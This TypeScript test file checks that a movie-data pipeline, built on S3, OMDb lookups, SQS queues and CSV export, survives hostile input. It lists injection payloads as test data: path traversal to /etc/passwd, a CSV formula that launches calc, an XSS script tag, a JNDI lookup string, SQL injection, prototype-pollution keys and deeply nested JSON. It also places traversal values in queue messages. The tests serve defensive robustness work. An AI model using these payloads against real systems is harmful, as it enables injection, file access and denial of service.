import { readFile } from "node:fs/promises"
import { SendMessageCommand } from "@aws-sdk/client-sqs"
import { assert, describe, it } from "@effect/vitest"
import * as Schema from "effect/Schema"
import { enrichedKey } from "../../domain/keys.ts"
import { readDayRows } from "../../local/run/RunResult.ts"
import { type SharedStack, useSharedStack } from "../local/sharedStack.ts"
import { completesWith, countRecords, fifth, first, forbiddenList, runAgain, runWith, topTen } from "./failureTests.ts"
import { checkRun } from "./runOutcome.ts"

/** Texts that are known to do harm, for every field with a text. */
const hostileTexts: ReadonlyArray<string> = [
  "../../../../etc/passwd",
  "..\\..\\windows\\system32",
  `"quoted", 'and' "again""`,
  "=cmd|'/C calc'!A0",
  "+1+1",
  "-1|2\\|3",
  "@SUM(A1:A9)",
  "'already an apostrophe",
  "<script>alert(1)</script>",
  "two\r\nlines,and\ta tab",
  "bell \u0007, escape \u001b[31m, delete \u007f",
  "$" + "{jndi:ldap://example.com/a} {{7*7}} %00 %2e%2e%2f",
  "'; DROP TABLE movies; --",
  "__proto__",
  "ends with a noncharacter \uFFFF",
  "\u202Eright to left, é, 映画, 🎬"
]
const deepJson = `${"[".repeat(100_000)}${"]".repeat(100_000)}`

const decodeList = Schema.decodeUnknownSync(
  Schema.fromJsonString(
    Schema.Struct({
      items: Schema.Array(Schema.Struct({ id: Schema.String, rank: Schema.String, title: Schema.String }))
    })
  )
)
const sampleRows = async () =>
  decodeList(await readFile(new URL("../../sample/Top250Movies.json", import.meta.url), "utf8")).items.slice(0, 50)

const { current } = useSharedStack()

describe("the source list", () => {
  it("leaves the run's event in failed-runs, with the reason in one sentence, when it cannot be read", async () => {
    const shared = current()
    const { summary, outcome } = await runWith(shared, [{ ...forbiddenList, times: 3 }])
    assert.deepStrictEqual([summary.complete, outcome.enriched, shared.omdb.calls.length], [false, [], 0])
    assert.deepStrictEqual(Object.keys(outcome.deadLetters), ["failed-runs"])
    assert.deepStrictEqual([outcome.deadLetters["failed-runs"]?.length, summary.failures.length], [1, 1])
    const detail = summary.failures[0]?.detail ?? ""
    assert.match(detail, /Access ?Denied/)
    assert.include(detail, "s3://top-movies/Top250Movies.json")
    assert.isBelow(detail.length, 300)
    await runAgain(shared, summary.runDate)
  })

  it("is refused in one sentence when it is nested a hundred thousand levels deep", async () => {
    const shared = current()
    await shared.setSourceList(`{"items":[${deepJson}]}`)
    const { runDate, failures } = await shared.run()
    assert.strictEqual((await checkRun(shared, runDate)).deadLetters["failed-runs"]?.length, 1)
    assert.match(failures[0]?.detail ?? "", /row 1 /)
    assert.isBelow(failures[0]?.detail.length ?? 0, 300)
  })

  it("brings titles with paths, quotes, formulas and tags unchanged into CSV and table, on one line", async () => {
    const shared = current()
    const items = (await sampleRows()).map((row, index) => {
      const text = hostileTexts[index]
      return text === undefined ? row : { ...row, title: text, crew: text }
    })
    await shared.setSourceList(JSON.stringify({ items, errorMessage: "" }))
    const { runDate, complete } = await shared.run({ top: 25 })
    assert.isTrue(complete)
    assert.deepStrictEqual((await checkRun(shared, runDate)).enriched.slice(0, 10), [...topTen])
    const rows = await readDayRows(shared.stack, runDate)
    assert.deepStrictEqual(
      rows.slice(0, hostileTexts.length).map(({ title }) => title),
      hostileTexts.map((text) => text.replace(/\r\n|\p{Cc}/gu, " ").trim())
    )
  })
})

describe("a reply of OMDb", () => {
  it("is stored under its id, bounded, with formulas in every field, prototype keys, deep JSON or long texts", async () => {
    const fields = ["Title", "Rated", "Genre", "Director", "Writer", "Actors", "Plot", "Awards", "Poster", "Website"]
    const texts = Object.fromEntries(fields.map((name, index) => [name, hostileTexts[index]]))
    const large = [
      `{"Title":"Odd","imdbID":"${fifth}","Response":"True","__proto__":{"Plot":"Polluted"}`,
      `"constructor":"Polluted","toString":${deepJson},"Year":${deepJson}`,
      `"Plot":"${"a".repeat(100_000)}","Genre":"${"ab, ".repeat(100_000)}"}`
    ].join()
    const hostile = JSON.stringify({ ...texts, imdbID: first, Response: "True" })
    const shared = current()
    const runDate = await completesWith(shared, [
      { at: "omdb", imdbId: first, what: { kind: "custom", status: 200, body: hostile } },
      { at: "omdb", imdbId: fifth, what: { kind: "custom", status: 200, body: large } }
    ])
    const objects = await shared.objects()
    for (const id of [first, fifth]) assert.isBelow((objects.get(enrichedKey(runDate, id)) ?? "").length, 20_000)
  })
})

const send = async ({ stack }: SharedStack, queue: string, bodies: ReadonlyArray<string>, more = {}) => {
  const QueueUrl = stack.names.queues.find(({ logical }) => logical === queue)?.url
  for (const MessageBody of bodies) {
    await stack.cloud.clients.sqs.send(new SendMessageCommand({ QueueUrl, MessageBody, ...more }))
  }
}

describe("a message", () => {
  it("becomes a dead letter after eight receives when it cannot be decoded, and the others go on", async () => {
    const shared = current()
    const runDate = shared.newRunDate()
    const records = countRecords(shared, "EnrichAndStoreMovie")
    const movie = { imdbId: first, rank: 1, title: "Odd" }
    const message = { version: 1, type: "movie", runDate, rosterCreatedAt: `${runDate}T06:00:00Z`, total: 1, movie }
    const bodies = [
      { ...message, version: 2 },
      { ...message, movie: { ...movie, imdbId: "../../csv/x" } },
      { ...message, movie: { ...movie, imdbId: `${first}/../../runs/${runDate}` } },
      { ...message, runDate: "../../2026-01-01" },
      { ...message, runDate: `${runDate}\n` },
      { ...message, movie: { ...movie, title: "a".repeat(200_000) } }
    ].map((body) => JSON.stringify(body))
    bodies.push("__proto__", '{"__proto__":{"version":1}}', deepJson, "null")
    await send(shared, "movies", bodies)
    assert.isFalse((await shared.run({ runDate })).complete)
    const { enriched, deadLetters } = await checkRun(shared, runDate)
    assert.deepStrictEqual([enriched, Object.keys(deadLetters)], [[...topTen], ["movies-dead-letters"]])
    assert.sameMembers([...(deadLetters["movies-dead-letters"] ?? [])], bodies)
    // Ten movies and the export request.
    assert.deepStrictEqual(records, { deleted: 11, failed: 8 * bodies.length })
    assert.match(shared.logs(), /The message is invalid/)
    for (const line of shared.logs().split("\n")) assert.isBelow(line.length, 10_000)
  })

  it("becomes a dead letter of the FIFO queue after five receives when stage 3 cannot decode it", async () => {
    const shared = current()
    const runDate = shared.newRunDate()
    const records = countRecords(shared, "ExportMoviesToCsv")
    const body = JSON.stringify({ version: 2, type: "movie", runDate, imdbId: fifth, outcome: "enriched" })
    await send(shared, "exports", [body], { MessageGroupId: runDate, MessageDeduplicationId: "version 2" })
    await shared.run({ runDate })
    const { enriched, deadLetters } = await checkRun(shared, runDate)
    assert.deepStrictEqual([enriched, deadLetters], [[...topTen], { "exports-dead-letters": [body] }])
    assert.strictEqual(records.failed, 5)
  })
})
